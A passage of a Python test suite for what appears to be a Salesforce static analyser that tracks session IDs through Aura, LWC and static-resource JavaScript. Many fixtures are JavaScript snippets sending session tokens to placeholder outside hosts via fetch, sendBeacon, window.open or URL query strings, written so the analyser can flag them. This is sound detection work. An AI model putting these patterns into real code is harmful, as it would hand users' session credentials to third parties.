        "fetch(new URL('/services/data/v61.0/limits', window.location.origin), {headers: {Authorization: sid}});\n"
        "var q = new URL('services/apexrest/x', location.href);\n"
        "$.ajax({url: q.href, headers: {Authorization: sid}});\n"
        "var p = new URL('/v1/x', 'https://api.partner.example.com/base/');\n"
        "navigator.sendBeacon(p.toString(), sid);\n"
        "window.open(new URL('https://api.partner.example.com/o?s=' + sid));\n"))
    assert sink(ir, "fetch").url == "{window.location.origin}/services/data/v61.0/limits"
    assert sink(ir, "jQuery.ajax").url == "{location.origin}/{…}/services/apexrest/x"
    assert sink(ir, "navigator.sendBeacon").url == "https://api.partner.example.com/v1/x"
    opened = sink(ir, "window.open")
    assert opened.in_query and opened.url == "https://api.partner.example.com/o?s={sforce.connection.sessionId}"


def test_url_constructor_against_an_unknown_base_is_not_known() -> None:
    from apexlint.lower.js_calls import resolve_url
    from apexlint.lower.js_values import UNKNOWN, JsValue
    assert resolve_url(JsValue(text="/services/data"), UNKNOWN).text == "{…}/services/data"
    assert resolve_url(JsValue(text="https://a.example.com/x"), UNKNOWN).text == "https://a.example.com/x"
    assert resolve_url(JsValue(text="?q=1"), JsValue(text="https://h.example.com/a/b?z")).text == \
        "https://h.example.com/a/b?q=1"
    assert resolve_url(JsValue(frozenset({"s"}), "/x"), JsValue(text="{window.location.origin}")).sources == {"s"}


AURA_CONTROLLER = """({
    sync: function (component, event, helper) {
        var action = component.get('c.getToken');
        action.setCallback(this, $A.getCallback(function (response) {
            var sid = response.getReturnValue();
            fetch('https://api.partner.example.com/v1/sync', {headers: {Authorization: 'Bearer ' + sid}});
            fetch('https://api.partner.example.com/v1/state?s=' + response.getState() + component.get('v.id'));
        }));
        $A.enqueueAction(action);
    }
})"""


def test_aura_action_return_value_is_handed_over_under_a_stand_in() -> None:
    """U-9: what `c.getToken` returns reaches the callback's `response.getReturnValue()`."""
    ir = lower(AURA_CONTROLLER, "force-app/main/default/aura/SyncCmp/SyncCmpController.js")
    # the second request carries what `v.id` holds, under its attribute's stand-in (dropped unless
    # a page or the bundle's other scripts keep a session there)
    use, state = ir.url_uses
    assert use.sink == "fetch" and use.sources == ("client:text:aura:gettoken",) and use.header_or_body
    assert use.url == "https://api.partner.example.com/v1/sync"
    assert state.sink == "fetch" and state.sources == ("client:text:attribute:lightning.synccmp:id",)


def test_aura_actions_are_only_read_in_an_aura_bundle() -> None:
    assert lower(AURA_CONTROLLER, "force-app/main/default/staticresources/sync.js").url_uses == ()


AURA_HAND_OFF = """({
    sync: function (component, event, helper) {
        var action = component.get('c.getToken');
        action.setCallback(this, function (response) {
            var sid = response.getReturnValue();
            helper.push(component, sid);
            helper.note(component, response.getState());
        });
        $A.enqueueAction(action);
    }
})"""

AURA_HELPER = """({
    push: function (component, token) {
        fetch('https://api.partner.example.com/v1/sync', {headers: {Authorization: 'Bearer ' + token}});
    },
    note: function (component, state) {
        component.set('v.state', state);
    },
    open(component, url) {
        window.open(url);
    }
})"""


def test_aura_controller_records_what_it_passes_its_helper() -> None:
    """U-9: `helper.push(component, sid)` hands the helper's push, as argument 1, what the
    action returns; a controller with no request of its own is still walked for it."""
    ir = lower(AURA_HAND_OFF, "force-app/main/default/aura/SyncCmp/SyncCmpController.js")
    assert ir.aura_helper_args == (("push", 1, "client:aura:gettoken"),) and ir.url_uses == ()


def test_aura_helper_parameters_stand_for_what_the_controller_passes() -> None:
    ir = lower(AURA_HELPER, "force-app/main/default/aura/SyncCmp/SyncCmpHelper.js")
    assert [(u.sink, u.sources, u.url) for u in ir.url_uses] == [
        ("fetch", ("client:helper:push:1",), "https://api.partner.example.com/v1/sync"),
        ("window.open", ("client:helper:open:1",), HANDED_TEXT)]  # the URL is what the controller passes


def test_aura_helper_parameters_are_bound_only_in_the_bundles_helper() -> None:
    assert lower(AURA_HELPER, "force-app/main/default/aura/SyncCmp/OtherHelper.js").url_uses == ()
    assert lower(AURA_HELPER, "force-app/main/default/staticresources/SyncCmpHelper.js").url_uses == ()
    assert lower(AURA_HAND_OFF, "force-app/main/default/staticresources/sync.js").aura_helper_args == ()


def test_aura_hand_off_scripts_are_not_left_unparsed() -> None:
    """A lazy scan skips scripts that name no session; a controller passing an action's return
    value to its helper and a helper that may send are not skipped."""
    from apexlint.ir import FileKind
    from apexlint.lower import LoweringJob, is_quiet_script_or_metadata

    def quiet(path: str, code: str) -> bool:
        job = LoweringJob(path, FileKind.JAVASCRIPT, code.encode(), "", lazy=True)
        return is_quiet_script_or_metadata(job, code)

    assert not quiet("src/aura/SyncCmp/SyncCmpController.js", AURA_HAND_OFF)
    assert not quiet("src/aura/SyncCmp/SyncCmpHelper.js", AURA_HELPER)
    assert quiet("src/aura/SyncCmp/SyncCmpHelper.js", "({note: function (c, s) { c.set('v.s', s); }})")
    assert quiet("src/aura/SyncCmp/SyncCmpController.js", AURA_HAND_OFF.replace("response.getReturnValue()", "1"))
    assert quiet("src/staticresources/SyncCmpHelper.js", AURA_HELPER)


def test_aura_markup_names_its_controller() -> None:
    from apexlint.lower.aura import lower_aura_markup
    markup = b'<aura:component implements="force:hasRecordId"\n  controller="acme.SyncCtl">\n</aura:component>'
    (ir,) = lower_aura_markup("src/aura/SyncCmp/SyncCmp.cmp", markup, [])
    assert ir.aura_controller == "acme.SyncCtl" and ir.sources == ()
    assert lower_aura_markup("src/aura/SyncCmp/Other.cmp", markup, []) == []  # not the bundle's markup
    assert lower_aura_markup("src/pages/SyncCmp/SyncCmp.cmp", markup, []) == []
    assert lower_aura_markup("src/aura/Plain/Plain.cmp", b"<aura:component/>", []) == []


def test_aura_markup_names_the_component_it_extends() -> None:
    from apexlint.lower.aura import helper_method_names, lower_aura_markup
    markup = b'<aura:component extends="c:SyncBase" implements="force:hasRecordId"></aura:component>'
    (ir,) = lower_aura_markup("src/aura/SyncCmp/SyncCmp.cmp", markup, [])
    assert (ir.aura_extends, ir.aura_controller) == ("c:syncbase", "")
    assert helper_method_names("({\n  push: function (c, t) {\n    if (t) { x(); }\n  },\n  send(t) {\n  }\n})") == \
        ("push", "send")


def test_an_aura_controller_hands_its_helper_over_under_any_name() -> None:
    """The helper is an action's third parameter, whatever it is called, or a copy of it."""
    from apexlint.lower import aura_helper_call
    assert aura_helper_call(b"({ a: function (cmp, evt, hlp) { hlp.send(cmp); } })")
    assert aura_helper_call(b"({ a: function (cmp, evt, helper) { var h = helper;\n h.send(cmp); } })")
    assert aura_helper_call(b"({ a: (cmp, evt, h) => { h.send(cmp); } })")
    assert not aura_helper_call(b"({ a: function (cmp, evt) { other.send(cmp); } })")


def test_imported_and_aura_labels_are_written_as_page_merge_fields() -> None:
    """An LWC's `@salesforce/label/c.X` import and Aura's `$A.get('$Label.c.X')` are the label's
    text, as a page's `{!$Label.X}` is (the analysis puts in its packaged value)."""
    ir = lower("""import getSid from '@salesforce/apex/Ctl.getSid';
import HOST from '@salesforce/label/c.Partner_Host';
import OTHER from '@salesforce/label/acme.Other_Host';
async function send() {
    const sid = await getSid();
    fetch(HOST + '/v1', {headers: {Authorization: sid}});
    fetch(`${OTHER}/v2`, {headers: {Authorization: sid}});
    fetch($A.get('$Label.c.Aura_Host') + '/v3', {headers: {Authorization: sid}});
    fetch($A.get('v.url'), {headers: {Authorization: sid}});
}
""", "force-app/main/default/lwc/sender/sender.js")
    assert [u.url for u in ir.url_uses] == [
        "{!$Label.Partner_Host}/v1", "{!$Label.acme__Other_Host}/v2", "{!$Label.Aura_Host}/v3", "{…}"]


def test_a_session_only_asked_about_is_recorded_as_tested() -> None:
    """`if (sforce.connection.sessionId)`, `!!__sfdcSessionId`, `sid == null`: yes/no questions
    about a session, recorded for SID010 with how each asks."""
    ir = lower("""if (sforce.connection.sessionId) { console.info('ready'); }
var onPage = !!__sfdcSessionId;
var sid = window.__sfdcSessionId;
if (sid == null) { alert('none'); }
var kind = typeof sid;
var same = sid === other ? 1 : 2;
""")
    assert [(t.span.start_line, t.how) for t in ir.session_tests] == [
        (1, "if (…)"), (2, "!!"), (4, "== null"), (5, "typeof"), (6, "compared with ===")]
    assert ir.url_uses == ()


def test_a_test_is_not_a_use_and_carries_nothing() -> None:
    """What a test gives (`!sid`) is a yes/no: sent on, it carries no session; the session sent
    on beside its test is a use of its own."""
    ir = lower("""var sid = sforce.connection.sessionId;
var missing = !sid;
fetch('https://collector.vendor.example/state?missing=' + missing);
if (sid) { fetch('https://collector.vendor.example/x', {headers: {Authorization: sid}}); }
""")
    assert [(t.span.start_line, t.how) for t in ir.session_tests] == [(2, "!"), (4, "if (…)")]
    assert [u.span.start_line for u in ir.url_uses] == [4]


def test_a_library_predicate_is_a_test() -> None:
    """`Ext.isEmpty(sid)`, `_.isEmpty(sid)`, `sid.startsWith('00D')`, `/^00D/.test(sid)`: a yes/no
    about the session; `sid.length > 0` compares too. None of them hands the session on."""
    ir = lower("""var sid = sforce.connection.sessionId;
if (Ext.isEmpty(sid)) { return; }
var a = _.isEmpty(sid) || jQuery.isEmptyObject(sid);
var b = sid.length > 0 && sid.startsWith('00D');
var c = /^00D/.test(sid) || $A.util.isEmpty(sid);
""")
    assert [(t.span.start_line, t.how) for t in ir.session_tests] == [
        (2, "Ext.isEmpty(…)"), (3, "_.isEmpty(…)"), (3, "jQuery.isEmptyObject(…)"), (4, "compared with >"),
        (4, "….startsWith(…)"), (5, "/…/.test(…)"), (5, "$A.util.isEmpty(…)")]
    assert ir.unfollowed_calls == () and ir.url_uses == ()


def test_a_session_handed_to_unknown_code_is_recorded() -> None:
    """`Vault.keep(sid)`, `sid.charAt(i)`: code the flow does not follow gets the session; calls
    it follows (its own functions, encoders, string methods, mutators) are not recorded."""
    ir = lower("""var sid = sforce.connection.sessionId;
Vault.keep(sid);
var c = sid.charAt(0);
function own(x) { return x; }
var d = own(sid) + encodeURIComponent(sid) + sid.split('!')[0];
var list = []; list.push(sid);
""")
    assert [(u.span.start_line, u.callee) for u in ir.unfollowed_calls] == [(2, "Vault.keep"), (3, "sid.charAt")]
    assert ir.session_tests == ()


def test_scripts_without_a_session_of_their_own_are_not_walked_for_tests() -> None:
    """Only a script reading a session is walked for tests; what Apex hands over is not tested here."""
    ir = lower(AURA_CONTROLLER.replace("var sid = response.getReturnValue();",
                                       "var sid = response.getReturnValue(); if (!sid) { return; }"),
               "force-app/main/default/aura/SyncCmp/SyncCmpController.js")
    assert ir.session_tests == ()


def test_a_bracket_left_open_to_the_end_is_named_as_never_closed() -> None:
    """W-11: an Aura controller without its final `})` is one error region from its first `(` to
    the end; the note says the bracket is never closed (not that it was unexpected), and what
    parsed inside is still lowered."""
    ir = lower("({\n  go : function() {\n" + SID + "    window.open('https://x.example.com/?s=' + sid);\n  }\n",
               path="aura/Cmp/CmpController.js")
    (note,) = [n for n in ir.notifications if n.code == "parse-error"]
    assert "'(' is never closed" in note.message and note.span is not None and note.span.start_line == 1
    assert [s.kind for s in ir.sources] == [SourceKind.JS_SFORCE_SESSION]
    closed = lower("({\n  go : function() {\n    var x = (1;\n  }\n})\n", path="aura/Cmp/CmpController.js")
    assert not any("never closed" in n.message for n in closed.notifications)


def test_a_component_setting_a_url_property_from_apex_records_it_for_its_template() -> None:
    """Y-1: what an LWC sets on a property its template may bind into a URL attribute is a
    `bound:` use (the package model keeps it where the template binds it, as `iframe.src in …`)."""
    ir = lower("import getSid from '@salesforce/apex/Ctl.getSid';\n"
               "export default class V extends LightningElement {\n"
               "  connectedCallback() {\n"
               "    getSid().then((s) => { this.frameUrl = 'https://v.example.com/?sid=' + s; });\n  }\n"
               "}\n", "force-app/main/default/lwc/v/v.js")
    assert [(u.sink, u.url, u.in_query) for u in ir.url_uses] == [
        (BOUND_PREFIX + "frameUrl", f"https://v.example.com/?sid={HANDED_TEXT}", True)]


def test_a_component_keeping_apex_records_is_not_walked_for_its_template() -> None:
    """The walk for bound properties is kept to scripts that name one for a URL or a session, or
    write URL text: most components only keep what Apex returns (`this.records = r`)."""
    ir = lower("import getRecords from '@salesforce/apex/Ctl.getRecords';\n"
               "export default class L extends LightningElement {\n"
               "  connectedCallback() { getRecords().then((r) => { this.records = r; }); }\n"
               "}\n", "force-app/main/default/lwc/l/l.js")
    assert ir.url_uses == ()


def test_a_static_resource_script_reads_the_globals_a_page_may_keep_a_session_in() -> None:
    """AF-4: a script a page loads reads what the page keeps in its globals (`var token =
    '{!$Api.Session_ID}'`): a credential-named global it never sets stands for that, under a
    stand-in the analysis replaces with the sessions of the pages that load the script."""
    ir = lower("fetch('https://x.example.com/c?sid=' + token);\n"
               "fetch('/a', {headers: {A: appConfig.accessToken}});\n"
               "fetch('/b', {headers: {B: window.sid}});\n"
               "fetch('https://r.example.com/?n=' + reportName + '&v=' + appConfig.version);\n")
    assert [(u.span.start_line, u.sources) for u in ir.url_uses] == [
        (1, ("client:global:token",)), (2, ("client:global:appconfig",)), (3, ("client:global:sid",))]
    assert ir.url_uses[0].in_query and not ir.url_uses[1].in_query


def test_a_script_s_own_names_and_other_scripts_are_not_page_globals() -> None:
    own = lower("var token = 'x';\nfunction go(sid) { fetch('https://x.example.com/?s=' + sid + token); }\n"
                "const send = accessToken => fetch('https://y.example.com/?t=' + accessToken);\n")
    assert own.url_uses == ()
    code = "fetch('https://x.example.com/c?sid=' + token);\n"
    for path in ("lwc/widget/widget.js", "aura/Panel/PanelController.js", "scripts/build.js"):
        assert lower(code, path).url_uses == (), path


def test_whether_a_resource_script_reads_a_page_global_is_told_without_following_it() -> None:
    """The flow runs over a static resource's script only when it may: jQuery declares every
    credential-named name it reads, and names in comments, strings, calls, object keys and
    members of other values are not reads of a global."""
    from apexlint.lower.javascript import reads_page_global
    assert reads_page_global(b"fetch('https://x.example.com/c?sid=' + token)")
    assert reads_page_global(b"$.ajax({headers: {Authorization: 'Bearer ' + appConfig.accessToken}})")
    assert reads_page_global(b"fetch('/x', {body: window.SESSION_ID})")
    assert not reads_page_global(b"var token = 1; fetch(token)")
    assert not reads_page_global(b"function f(a, token) { fetch(token) }")
    assert not reads_page_global(b"const go = token => fetch(token)")
    assert not reads_page_global(b"// the token\nfetch('/x')")
    assert not reads_page_global(b"fetch('/x', {sessionId: 1, kind: 'token'})")
    assert not reads_page_global(b"fetch(getToken()); fetch(f(x).token); fetch(inside + tokenizer)")
    assert not reads_page_global(b"var s = token + 1;")  # no request


def test_names_inside_a_long_string_literal_are_not_page_globals() -> None:
    """A library that inlines a WebAssembly module as base64 (pdf.js's worker) has `Sid`,
    `tOKeN`... inside one string, far from its quotes: no reads of a global, so the flow does
    not run over the library. Names in code beside such strings, and in a template literal's
    `${…}`, still are."""
    from apexlint.lower.javascript import reads_page_global
    blob = b"A" * 5000 + b"+Sid+" + b"B" * 5000 + b"/tOKeN=" + b"C" * 100
    assert not reads_page_global(b'var wasm = "data:application/octet-stream;base64,' + blob + b'"; fetch(wasm)')
    assert not reads_page_global(b"var wasm = '" + blob + b"';\nfetch(wasm)")
    assert not reads_page_global(b"fetch(`/a/ token ${page}`)")
    assert not reads_page_global(b"fetch('/x'); /* a\n token */")
    assert reads_page_global(b'var wasm = "' + blob + b'"; fetch("/x?s=" + token)')
    assert reads_page_global(b"fetch('/x', {body: 'it\\'s ' + token})")
    assert reads_page_global(b'fetch("/x" + "it\'s" + token)')
    assert reads_page_global(b"fetch(`/x/${token}`)")
    assert reads_page_global(b"fetch(`/x/${'a' + token}`)")


def test_a_resource_script_and_the_url_a_page_loads_it_by_name_the_same_script() -> None:
    from apexlint.ir import loaded_script, resource_script
    assert resource_script("force-app/main/default/staticresources/helper.js") == "helper"
    assert resource_script("src/staticresources/app.resource!/js/Main.js") == "app/js/main.js"
    assert resource_script("force-app/main/default/staticresources/app/js/main.js") == "app/js/main.js"
    assert resource_script("force-app/main/default/classes/A.cls") is None
    assert loaded_script("{!$Resource.Helper}") == "helper"
    assert loaded_script("{!URLFOR($Resource.app, '/js/main.js')}") == "app/js/main.js"
    assert loaded_script("/soap/ajax/59.0/connection.js") is None


def test_a_component_module_s_exported_functions_take_what_importers_pass_them() -> None:
    """`export function send(token)` in `lwc/api/api.js`: its parameters stand for what the
    components importing it from `c/api` pass there; its other functions' parameters do not."""
    ir = lower("export function send(token, path) { return fetch('https://p.example.com' + path, "
               "{headers: {A: token}}); }\n"
               "export const beam = (token) => navigator.sendBeacon('https://b.example.com/?t=' + token);\n"
               "function inner(token) { return fetch('https://i.example.com/', {headers: {A: token}}); }\n"
               "export { inner as relay };\n"
               "function unused(token) { return fetch('https://u.example.com/', {headers: {A: token}}); }\n",
               "force-app/main/default/lwc/api/api.js")
    assert sorted((u.span.start_line, u.sources) for u in ir.url_uses) == [
        (1, ("client:export:api.send:0",)), (1, ("client:export:api.send:1",)),
        (2, ("client:export:api.beam:0",)), (3, ("client:export:api.relay:0",))]


def test_a_component_records_what_it_passes_the_functions_it_imports_from_modules() -> None:
    ir = lower("import { LightningElement } from 'lwc';\n"
               "import getSid from '@salesforce/apex/Ctl.getSid';\n"
               "import { send as push } from 'c/partnerApi';\n"
               "import * as util from 'c/util';\n"
               "export default class Caller extends LightningElement {\n"
               "    async connectedCallback() {\n"
               "        const sid = await getSid();\n"
               "        push('x', sid);\n"
               "        util.relay(sid);\n"
               "        util.describe('nothing');\n"
               "    }\n"
               "}\n", "force-app/main/default/lwc/caller/caller.js")
    assert ir.module_args == (("partnerApi", "send", 1, "client:apex:ctl.getsid"),
                              ("util", "relay", 0, "client:apex:ctl.getsid"))


def test_a_component_module_records_what_its_exported_functions_return_of_what_apex_hands_it() -> None:
    """What `return getSid()` gives an importer stands for what Apex returns: in a function, an
    arrow without a block, and relayed from another module's function (in a function that calls
    Apex: only those are walked; awaited: what Apex hands over comes in a promise, and a call whose
    result is neither awaited nor `then`'d is not followed); a length or a yes/no is not the
    session, and a function the module does not export is no one else's."""
    ir = lower("import getSid from '@salesforce/apex/Ctl.getSid';\n"
               "import { other } from 'c/base';\n"
               "export async function session() { const sid = await getSid(); return sid; }\n"
               "export const bearer = async () => 'Bearer ' + await getSid();\n"
               "export async function relayed() { await getSid(); return await other(); }\n"
               "export async function unawaited() { await getSid(); return other(); }\n"
               "export async function size() { const sid = await getSid(); return sid.length; }\n"
               "export const known = async () => !(await getSid());\n"
               "async function hidden() { return getSid(); }\n",
               "force-app/main/default/lwc/auth/auth.js")
    assert ir.module_returns == (("bearer", "client:apex:ctl.getsid"), ("relayed", "client:module:base.other"),
                                 ("session", "client:apex:ctl.getsid"))


def test_a_component_calling_a_module_s_function_gets_what_it_returns() -> None:
    """`await session()` after `import { session } from 'c/auth'` stands for what that function
    returns, in a component with no Apex import of its own that may send something."""
    ir = lower("import { LightningElement } from 'lwc';\n"
               "import { session } from 'c/auth';\n"
               "import * as api from 'c/api';\n"
               "export default class Caller extends LightningElement {\n"
               "    async connectedCallback() {\n"
               "        fetch('https://p.example.com/?sid=' + await session());\n"
               "        api.token().then(t => fetch('https://q.example.com/', {headers: {A: t}}));\n"
               "    }\n"
               "}\n", "force-app/main/default/lwc/caller/caller.js")
    assert sorted((u.span.start_line, u.sources) for u in ir.url_uses) == [
        (6, ("client:module:auth.session",)), (7, ("client:module:api.token",))]


def test_a_component_followed_only_for_what_modules_return_is_walked_where_it_calls_one() -> None:
    """A component that Apex hands nothing is walked only in the methods that call a module's
    function (NPSP's form components log and set URLs in most methods)."""
    from apexlint.lower.javascript import parse_script
    from apexlint.lower.js_flow import walked_parts
    from apexlint.lower.js_values import ScriptUnit
    code = (b"import { session } from 'c/auth';\n"
            b"export default class C {\n"
            b"    async go() { fetch('https://p.example.com/?s=' + await session()); }\n"
            b"    log(x) { console.log(x); }\n"
            b"}\n")
    unit = ScriptUnit(raw=code, base_point=(0, 0), lwc=True)
    assert unit.module_results_only and not unit.modules_only
    [part] = walked_parts(unit, parse_script(code))
    assert code[part.start_byte:part.end_byte].startswith(b"async go()")
    assert not ScriptUnit(raw=b"import getSid from '@salesforce/apex/C.getSid';\n" + code, base_point=(0, 0),
                          lwc=True).module_results_only


def test_a_component_followed_only_for_its_module_calls_is_walked_where_it_calls_apex_and_a_module() -> None:
    """A component that neither sends nor holds a session itself is walked only in the methods
    that call Apex and a module's function (NPSP's components call their utility modules in most
    methods: walking all of them cost a tenth of its scan)."""
    from apexlint.lower.javascript import parse_script
    from apexlint.lower.js_flow import walked_parts
    from apexlint.lower.js_values import ScriptUnit
    code = (b"import getSid from '@salesforce/apex/Ctl.getSid';\n"
            b"import { send, label } from 'c/api';\n"
            b"export default class C {\n"
            b"    async go() { const sid = await getSid(); send(sid); }\n"
            b"    title() { return label('x'); }\n"
            b"    async load() { return getSid(); }\n"
            b"}\n")
    unit = ScriptUnit(raw=code, base_point=(0, 0), lwc=True)
    assert unit.modules_only
    [part] = walked_parts(unit, parse_script(code))
    assert code[part.start_byte:part.end_byte].startswith(b"async go()")


# -- functions called where they are written ------------------------------------------------------
def test_a_function_called_where_it_is_written_gets_its_arguments() -> None:
    ir = lower(SID + "(function (s) { fetch('https://x.example.com/?sid=' + s); })(sid);")
    assert uses(ir) == [("fetch", "https://x.example.com/?sid={sforce.connection.sessionId}", True)]


def test_a_function_called_where_it_is_written_is_followed_in_every_call_of_the_function_around_it() -> None:
    """The inner function's second run, with the same (no) arguments, is not run again
    (`calls.invoke` remembers it); the walk as written then follows it with the session the outer
    call holds."""
    ir = lower("function send(x) { (function () { fetch('https://x.example.com/?s=' + x); })(); }\n"
               "send('a');\nsend(sforce.connection.sessionId);")
    assert [(sink, in_query) for sink, _, in_query in uses(ir)] == [("fetch", True)]


def test_an_arrow_function_called_where_it_is_written_returns_what_it_is_given() -> None:
    ir = lower(SID + "var t = ((s) => s + '!')(sid);\nlocation.href = 'https://x.example.com/?t=' + t;")
    assert [(sink, in_query) for sink, _, in_query in uses(ir)] == [("window.location", True)]
